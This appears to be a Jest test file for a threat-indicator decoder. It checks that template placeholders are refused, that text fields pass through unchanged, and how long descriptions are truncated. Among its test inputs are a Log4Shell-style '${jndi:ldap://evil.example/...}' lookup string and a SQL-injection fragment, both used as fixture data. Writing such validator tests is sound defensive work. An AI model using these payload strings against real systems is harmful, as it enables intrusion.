import { memberNames } from '../../shared/codec/ti-indicator';
import { accepted, base, noTemplate, refusals, sha256 } from './decoding';

describe('an unresolved template', () => {
  const hashed = { ...base, fileHashType: 'unknown', fileHashValue: sha256 };
  const templates = [
    "@variables('x')",
    "@{triggerBody()?['x']}",
    '{{x}}',
    '{x}',
    '<x>',
    '%X%',
    '$x$',
    '${x}',
  ];
  const texts = memberNames.filter((name) =>
    refusals({ ...hashed, [name]: '{{x}}' }).some(({ expected }) => expected.includes('template')),
  );

  it('is refused as such in every member that is text or a date', () => {
    expect(texts).toHaveLength(35);
  });

  it.each(texts)('is refused in %s', (name) => {
    for (const value of templates) {
      expect(refusals({ ...hashed, [name]: value })).toEqual([{ pointer: `/${name}`, expected: noTemplate }]);
    }
  });

  it.each([
    ['externalId', 'case-{{id}}'],
    ['url', 'https://evil.example/{{id}}'],
    ['emailSenderAddress', '{{user}}@evil.example'],
    ['fileMutexName', 'Global\\{{id}}'],
  ])('is refused in the middle of %s', (name, value) => {
    expect(refusals({ ...base, [name]: value })).toEqual([{ pointer: `/${name}`, expected: noTemplate }]);
  });

  it.each([
    ['emailSubject', 'Hello {{name}}'],
    ['description', 'The kit left {{name}} in its mails'],
    ['additionalInformation', 'a {{x}} b'],
    ['filePath', 'C:\\{{x}}\\a.exe'],
    ['userAgent', '${jndi:ldap://evil.example/a}'],
    ['fileMutexName', '{8761ABBD-7F85-42EE-B272-A76179687C63}'],
    ['tags', ['about {{x}}']],
  ])('is not seen in an honest %s', (name, value) => {
    expect(accepted({ ...base, [name]: value })).toEqual({ ...base, [name]: value });
  });
});

describe('text', () => {
  it.each([
    'description',
    'additionalInformation',
    'knownFalsePositives',
    'emailSubject',
    'fileName',
    'userAgent',
  ])('%s is kept as it came', (name) => {
    const text = ` <b>"quoted"</b> \u202e'] OR [1=1\r\n\té `;
    expect(accepted({ ...base, [name]: text })).toEqual({ ...base, [name]: text });
  });

  it('has its lone surrogates replaced', () => {
    expect(accepted({ ...base, fileName: 'a\ud800b' })).toEqual({ ...base, fileName: 'a\ufffdb' });
  });

  it('without U+0000', () => {
    expect(refusals({ ...base, fileName: 'a\0b', externalId: 'a\0' })).toEqual([
      { pointer: '/externalId', expected: 'text, without the character U+0000' },
      { pointer: '/fileName', expected: 'text, without the character U+0000' },
    ]);
  });
});

describe('a description', () => {
  it.each([0, 1])(
    'of 100 characters is left alone, with %i more it is cut and kept whole elsewhere',
    (more) => {
      const description = 'd'.repeat(100 + more);
      const additional = more === 0 ? {} : { additionalInformation: description };
      expect(accepted({ ...base, description })).toEqual({
        ...base,
        description: 'd'.repeat(100),
        ...additional,
      });
    },
  );

  it('stands before what the sender had to add', () => {
    const description = 'd'.repeat(200);
    expect(accepted({ ...base, description, additionalInformation: 'mine' }).additionalInformation).toBe(
      `${description}\n\nmine`,
    );
  });

  it('is cut between characters', () => {
    const description = `${'d'.repeat(99)}😀${'e'.repeat(50)}`;
    expect(accepted({ ...base, description }).description).toBe('d'.repeat(99));
  });

  it('is not cut down to white space, or to a template', () => {
    expect(accepted({ ...base, description: `${' '.repeat(150)}late` }).description).toBe('late');
    expect(refusals({ ...base, description: `{{x}}${' '.repeat(150)}late` })).toEqual([
      { pointer: '/description', expected: noTemplate },
    ]);
  });
});
